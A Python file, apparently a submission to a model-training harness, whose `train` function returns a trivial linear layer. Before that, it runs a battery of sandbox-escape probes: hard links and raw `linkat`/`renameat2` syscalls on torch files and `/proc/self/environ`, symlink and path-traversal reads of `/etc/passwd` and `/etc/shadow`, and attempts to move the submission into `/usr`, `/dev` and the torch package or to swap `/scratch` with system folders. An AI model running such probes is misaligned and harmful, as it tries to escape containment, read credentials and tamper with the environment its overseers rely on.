# A link has no size and no owner of its own: bring what is outside into the scratch folder by name.
import ctypes
import errno
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
LINKAT, RENAMEAT2, HERE = 265, 316, -100
FOLLOW, EMPTY_PATH = 0x400, 0x1000
NOREPLACE, EXCHANGE, WHITEOUT = 1, 2, 4


def call(what, number, *arguments):
    answer = libc.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    told = answer if answer != -1 else errno.errorcode[ctypes.get_errno()]
    print("DONE" if answer != -1 else "REFUSED", what, told)


def attempt(what, action):
    try:
        print("DONE", what, action())
    except OSError as error:
        print("REFUSED", what, error)


def read(path):
    with open(path, "rb") as stream:
        return stream.read(40)


def train(lab):
    for path in (torch._C.__file__, torch.__file__, "/dev/null", "/proc/self/environ"):
        attempt(f"a hard link to {path}", lambda: os.link(path, "/scratch/link"))
        number = os.open(path, os.O_RDONLY)
        call(f"a hard link to what is open: {path}", LINKAT, number, b"", HERE, b"/scratch/link", EMPTY_PATH)
        call(f"the same by /proc: {path}", LINKAT, HERE, f"/proc/self/fd/{number}".encode(), HERE, b"/scratch/link", FOLLOW)
        os.close(number)
    for target in ("/etc/passwd", "/proc/1/root/etc/passwd", "../../../etc/passwd", "/proc/self/cwd/../etc/passwd", "/proc/self/fd/../root/etc/shadow"):
        os.symlink(target, "/scratch/symlink")
        attempt(f"read {target} by a symbolic link", lambda: read("/scratch/symlink"))
        call(f"a hard link to where {target} leads", LINKAT, HERE, b"/scratch/symlink", HERE, b"/scratch/link", FOLLOW)
        os.remove("/scratch/symlink")
    for folder in ("/usr", "/dev", "/proc/self", os.path.dirname(torch.__file__)):
        outside = f"{folder}/labmark-moved".encode()
        for what, flags in (("move", 0), ("move, replacing nothing", NOREPLACE), ("move, leaving a whiteout", WHITEOUT)):
            call(f"{what} to {folder}", RENAMEAT2, HERE, b"/scratch/submission.py", HERE, outside, flags)
        call(f"exchange with {folder}", RENAMEAT2, HERE, b"/scratch", HERE, folder.encode(), EXCHANGE)
        attempt(f"a file without a name in {folder}", lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR))
    # What a rename can leave behind is a device; of a kind that cannot be opened?
    with open("/scratch/a", "wb"):
        pass
    libc.syscall(RENAMEAT2, HERE, b"/scratch/a", HERE, b"/scratch/b", WHITEOUT)
    attempt("open the whiteout", lambda: read("/scratch/a"))
    a, b = "/scratch/round", "/scratch/about"
    os.symlink(a, b)
    os.symlink(b, a)
    attempt("links in a circle", lambda: read(a))
    return torch.nn.Linear(4, 3)
